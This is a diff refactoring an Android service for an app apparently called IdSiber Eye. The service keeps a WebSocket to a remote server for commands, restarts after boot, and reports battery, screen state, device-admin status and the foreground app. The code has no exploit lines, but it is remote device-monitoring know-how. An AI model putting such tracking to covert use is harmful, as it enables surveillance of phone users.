@@ -1,12 +1,9 @@
 package com.idsiber.eye;
 
-import android.app.ActivityManager;
 import android.app.Notification;
 import android.app.NotificationChannel;
 import android.app.NotificationManager;
 import android.app.Service;
-import android.app.admin.DevicePolicyManager;
-import android.content.ComponentName;
 import android.content.Context;
 import android.content.Intent;
 import android.content.IntentFilter;
@@ -14,7 +11,6 @@ import android.os.BatteryManager;
 import android.os.Build;
 import android.os.IBinder;
 import android.provider.Settings;
-import android.util.Log;
 
 import androidx.core.app.NotificationCompat;
 
@@ -24,48 +20,123 @@ public class WebSocketService extends Service {
     private static final String TAG = "WebSocketService";
     private static final int NOTIFICATION_ID = 1001;
     private static final String CHANNEL_ID = "IdSiberEyeService";
+    // Dipakai ulang setiap heartbeat, bukan dibuat per pemanggilan
+    private static final IntentFilter BATTERY_FILTER = new IntentFilter(Intent.ACTION_BATTERY_CHANGED);
     
-    private WebSocketClient wsClient;
-    private CommandHandler commandHandler;
-    private ServerConfig serverConfig;
+    private volatile WebSocketClient wsClient;
+    private StartupPipeline startupPipeline;
+    private boolean heartbeatStarted;
+    private final DeviceStatusEncoder statusEncoder = new DeviceStatusEncoder();
     
     @Override
     public void onCreate() {
         super.onCreate();
-        Log.d(TAG, "Service created");
+        AppLog.d(TAG, "Service created");
+        StartupMetrics.mark("service_created");
         
         createNotificationChannel();
-        commandHandler = new CommandHandler(this);
-        serverConfig = new ServerConfig(this);
         
-        // Initialize WebSocket client for service
-        wsClient = new WebSocketClient(this, new WebSocketClient.StatusCallback() {
+        // Critical path: buat client, connect, register. Dijalankan di thread
+        // startup supaya main thread tidak menunggu inisialisasi socket.
+        startupPipeline = new StartupPipeline();
+        startupPipeline.runCritical("create_client", new Runnable() {
             @Override
-            public void onStatusChange(String status) {
-                updateNotification("Status: " + status);
+            public void run() {
+                // Initialize WebSocket client for service
+                WebSocketClient client = new WebSocketClient(WebSocketService.this, new WebSocketClient.StatusCallback() {
+                    @Override
+                    public void onStatusChange(String status) {
+                        updateNotification("Status: " + status);
+                    }
+                    
+                    @Override
+                    public void onError(String error) {
+                        AppLog.e(TAG, "WebSocket error: {}", error);
+                    }
+                });
+                client.setRegistrationListener(new WebSocketClient.RegistrationListener() {
+                    @Override
+                    public void onRegistered() {
+                        startupPipeline.onCriticalPathComplete();
+                    }
+                });
+                wsClient = client;
             }
-            
+        });
+        
+        // Deferred: tidak diperlukan untuk bisa menerima command
+        startupPipeline.defer("work_scheduler", new Runnable() {
+            @Override
+            public void run() {
+                WorkScheduler.getInstance(WebSocketService.this).start();
+            }
+        });
+        startupPipeline.defer("heartbeat", new Runnable() {
+            @Override
+            public void run() {
+                startHeartbeat();
+            }
+        });
+        startupPipeline.defer("prewarm_handlers", new Runnable() {
+            @Override
+            public void run() {
+                wsClient.getCommandHandler().prewarm();
+            }
+        });
+        startupPipeline.defer("command_scheduler", new Runnable() {
+            @Override
+            public void run() {
+                CommandScheduler scheduler = CommandScheduler.getInstance(WebSocketService.this);
+                scheduler.attach(wsClient.getCommandHandler());
+                scheduler.rearm();
+            }
+        });
+        startupPipeline.defer("resource_sampler", new Runnable() {
+            @Override
+            public void run() {
+                ResourceSampler.getInstance(WebSocketService.this).start();
+            }
+        });
+        startupPipeline.defer("data_usage", new Runnable() {
+            @Override
+            public void run() {
+                DataUsageAggregator.getInstance(WebSocketService.this).start();
+            }
+        });
+        startupPipeline.defer("storage_indexer", new Runnable() {
             @Override
-            public void onError(String error) {
-                Log.e(TAG, "WebSocket error: " + error);
+            public void run() {
+                StorageIndexer.getInstance(WebSocketService.this).start();
+            }
+        });
+        startupPipeline.defer("report_startup_metrics", new Runnable() {
+            @Override
+            public void run() {
+                reportStartupMetrics();
             }
         });
     }
     
     @Override
     public int onStartCommand(Intent intent, int flags, int startId) {
-        Log.d(TAG, "Service started");
+        AppLog.d(TAG, "Service started");
         
         // Start foreground service
         startForeground(NOTIFICATION_ID, createNotification("Starting service..."));
         
-        // Connect to server
-        if (!wsClient.isConnected()) {
-            wsClient.connect();
+        if (intent != null && intent.hasExtra(BootReceiver.EXTRA_BOOT_RECEIVED_AT)) {
+            StartupMetrics.markBootReceived(intent.getLongExtra(BootReceiver.EXTRA_BOOT_RECEIVED_AT, -1));
         }
         
-        // Start heartbeat
-        startHeartbeat();
+        // Connect to server (dijalankan setelah client dibuat di thread startup)
+        startupPipeline.runCritical("connect", new Runnable() {
+            @Override
+            public void run() {
+                if (wsClient != null && !wsClient.isConnected()) {
+                    wsClient.connect();
+                }
+            }
+        });
         
         // Return sticky to restart if killed
         return START_STICKY;
@@ -79,8 +150,16 @@ public class WebSocketService extends Service {
     @Override
     public void onDestroy() {
         super.onDestroy();
-        Log.d(TAG, "Service destroyed");
+        AppLog.d(TAG, "Service destroyed");
         
+        if (startupPipeline != null) {
+            startupPipeline.shutdown();
+        }
+        ResourceSampler.getInstance(this).stop();
+        DataUsageAggregator.getInstance(this).stop();
+        StorageIndexer.getInstance(this).stop();
+        WorkScheduler.getInstance(this).cancel("heartbeat");
+        WorkScheduler.getInstance(this).stop();
         if (wsClient != null) {
             wsClient.disconnect();
         }
@@ -115,67 +194,63 @@ public class WebSocketService extends Service {
         manager.notify(NOTIFICATION_ID, createNotification(text));
     }
     
+    /**
+     * Heartbeat dan status update dijadwalkan sebagai task deferrable: saat
+     * Doze jaringan tidak tersedia, jadi heartbeat ditunda sampai jendela
+     * maintenance (paling lama satu interval) dan digabung dengan task lain.
+     */
     private void startHeartbeat() {
-        // Send heartbeat every 30 seconds
-        new Thread(new Runnable() {
+        if (heartbeatStarted) {
+            return;
+        }
+        heartbeatStarted = true;
+        
+        WorkScheduler.getInstance(this).scheduleDeferrable("heartbeat", Constants.HEARTBEAT_INTERVAL,
+                Constants.HEARTBEAT_INTERVAL, Constants.HEARTBEAT_INTERVAL, new Runnable() {
             @Override
             public void run() {
-                while (!Thread.currentThread().isInterrupted()) {
-                    try {
-                        Thread.sleep(Constants.HEARTBEAT_INTERVAL); // Use configured heartbeat interval
-                        
-                        if (wsClient != null && wsClient.isConnected()) {
-                            wsClient.sendHeartbeat();
-                            
-                            // Also send status update
-                            JSONObject status = getDeviceStatus();
-                            wsClient.sendStatusUpdate(status);
-                        }
-                        
-                    } catch (InterruptedException e) {
-                        Thread.currentThread().interrupt();
-                        break;
-                    } catch (Exception e) {
-                        Log.e(TAG, "Heartbeat error", e);
-                    }
+                if (wsClient != null && wsClient.isConnected()) {
+                    wsClient.sendHeartbeat(statusEncoder);
+                    
+                    // Also send status update
+                    JSONObject status = getDeviceStatus();
+                    wsClient.sendStatusUpdate(status);
                 }
             }
-        }).start();
+        });
+    }
+    
+    private void reportStartupMetrics() {
+        try {
+            JSONObject metrics = StartupMetrics.toJson();
+            AppLog.i(TAG, "Startup metrics: {}", metrics);
+            if (wsClient != null && wsClient.isConnected()) {
+                wsClient.sendStartupMetrics(metrics);
+            }
+        } catch (Exception e) {
+            AppLog.e(TAG, "Error reporting startup metrics", e);
+        }
     }
     
     private JSONObject getDeviceStatus() {
         try {
-            JSONObject status = new JSONObject();
-            
             // Battery status
-            Intent batteryIntent = registerReceiver(null, new IntentFilter(Intent.ACTION_BATTERY_CHANGED));
+            int batteryLevel = DeviceStatusEncoder.UNKNOWN_BATTERY;
+            boolean isCharging = false;
+            Intent batteryIntent = registerReceiver(null, BATTERY_FILTER);
             if (batteryIntent != null) {
                 int level = batteryIntent.getIntExtra(BatteryManager.EXTRA_LEVEL, -1);
                 int scale = batteryIntent.getIntExtra(BatteryManager.EXTRA_SCALE, -1);
-                float batteryPct = level * 100 / (float) scale;
-                boolean isCharging = batteryIntent.getIntExtra(BatteryManager.EXTRA_STATUS, -1) == BatteryManager.BATTERY_STATUS_CHARGING;
-                
-                status.put("battery_level", (int) batteryPct);
-                status.put("is_charging", isCharging);
+                batteryLevel = (int) (level * 100 / (float) scale);
+                isCharging = batteryIntent.getIntExtra(BatteryManager.EXTRA_STATUS, -1) == BatteryManager.BATTERY_STATUS_CHARGING;
             }
             
-            // Device admin status
-            DevicePolicyManager dpm = (DevicePolicyManager) getSystemService(DEVICE_POLICY_SERVICE);
-            ComponentName adminReceiver = new ComponentName(this, IdSiberDeviceAdminReceiver.class);
-            status.put("device_admin_active", dpm.isAdminActive(adminReceiver));
-            
-            // Screen status
-            status.put("screen_on", isScreenOn());
-            
-            // Current foreground app
-            status.put("current_app", getCurrentApp());
-            
-            status.put("timestamp", System.currentTimeMillis());
-            
-            return status;
+            return statusEncoder.status(batteryLevel, isCharging,
+                DeviceCapabilities.getInstance(this).isAdminActiveCached(), isScreenOn(),
+                ForegroundAppTracker.getInstance(this).getCurrentApp(), System.currentTimeMillis());
             
         } catch (Exception e) {
-            Log.e(TAG, "Error creating device status", e);
+            AppLog.e(TAG, "Error creating device status", e);
             return new JSONObject();
         }
     }
@@ -187,17 +262,4 @@ public class WebSocketService extends Service {
             return false;
         }
     }
-    
-    private String getCurrentApp() {
-        try {
-            ActivityManager am = (ActivityManager) getSystemService(ACTIVITY_SERVICE);
-            if (am != null) {
-                ActivityManager.RunningTaskInfo foregroundTaskInfo = am.getRunningTasks(1).get(0);
-                return foregroundTaskInfo.topActivity.getPackageName();
-            }
-        } catch (Exception e) {
-            Log.e(TAG, "Error getting current app", e);
-        }
-        return "unknown";
-    }
-}
\ No newline at end of file
+}